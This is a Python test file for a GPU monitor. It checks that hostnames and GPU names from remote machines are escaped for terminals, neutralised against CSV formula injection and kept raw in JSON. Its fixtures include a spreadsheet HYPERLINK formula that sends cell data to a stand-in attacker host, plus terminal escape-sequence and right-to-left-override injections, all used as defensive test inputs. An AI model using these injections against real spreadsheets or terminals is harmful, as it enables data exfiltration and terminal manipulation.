"""Text from other machines: escaped for terminals, never a formula in CSV, raw in JSON."""

from __future__ import annotations

import csv
import io
import json

import pytest

from gpumon.cli.cluster import render_cluster
from gpumon.telemetry.history.csv_rows import record_rows
from gpumon.telemetry.model.types import (
    GpuInfo,
    GpuSample,
    HostView,
    MachineInfo,
    Snapshot,
    SourceState,
    SourceStatus,
)
from gpumon.text.json_out import snapshot_json
from gpumon.untrusted import for_csv, for_terminal

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"GPU")'


@pytest.mark.parametrize(("text", "shown"), [
    ("NVIDIA H200", "NVIDIA H200"),
    ("GPU 显卡", "GPU 显卡"),
    ("red\x1b[31m!", "red\\x1b[31m!"),
    ("two\nlines\r", "two\\nlines\\r"),
    ("bell\x07 tab\t", "bell\\x07 tab\\t"),
    ("c1\x9b2J", "c1\\x9b2J"),
    ("abc\u202edcba", "abc\\u202edcba"),  # right-to-left override ("Trojan Source")
    ("back\\slash", "back\\slash"),
])
def test_for_terminal(text: str, shown: str) -> None:
    assert for_terminal(text) == shown


@pytest.mark.parametrize(("text", "cell"), [
    ("NVIDIA H200", "NVIDIA H200"),
    ("=1+1", "'=1+1"),
    ("+cmd", "'+cmd"),
    ("-2", "'-2"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\\t=1"),
    ("GPU\x1b]0;owned\x07", "GPU\\x1b]0;owned\\x07"),
    ("a=b", "a=b"),
    ("", ""),
])
def test_for_csv(text: str, cell: str) -> None:
    assert for_csv(text) == cell


def _snapshot(name: str, host: str) -> Snapshot:
    info = GpuInfo(0, name, "GPU-1", "", host=host)
    sample = GpuSample(0, 1.0, gpu_util_pct=5.0)
    return Snapshot(timestamp_s=1.0, machine=MachineInfo("Prometheus at x", "Prometheus"),
                    status=SourceStatus(SourceState.OK, "1 GPU"), gpus=(info,),
                    samples=(sample,), hosts=(HostView(host, True, "", (info,), (sample,)),))


def test_cluster_text_never_sends_control_characters_to_the_terminal() -> None:
    text = render_cluster(_snapshot("GPU\x1b]0;pwned\x07", "node\x1b[2J\rA"))
    assert "\x1b" not in text and "\r" not in text and "\x07" not in text
    assert "node\\x1b[2J\\rA: 1 GPU" in text and "GPU\\x1b]0;pwned\\x07" in text


def test_csv_rows_write_remote_names_as_text_and_json_keeps_them_raw() -> None:
    snap = _snapshot(HOSTILE_NAME, "h")
    buffer = io.StringIO()
    csv.writer(buffer).writerows(record_rows(snap))
    (row,) = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert row[4] == "'" + HOSTILE_NAME
    (gpu,) = json.loads(snapshot_json(snap))["gpus"]
    assert gpu["name"] == HOSTILE_NAME  # raw in JSON: programs read it


def test_the_history_csv_writes_remote_names_as_text(tmp_path) -> None:
    from gpumon.telemetry.history.csv_export import history_table, write_history_csv
    from gpumon.telemetry.history.store import History

    snap = _snapshot(HOSTILE_NAME, "h")
    history = History(100)
    history.append(snap)
    path = tmp_path / "history.csv"
    assert write_history_csv(history_table(history, snap, 60.0), path) == 1
    with path.open(newline="", encoding="utf-8") as f:
        (row,) = list(csv.DictReader(f))
    assert row["name"] == "'" + HOSTILE_NAME and row["uuid"] == "GPU-1"
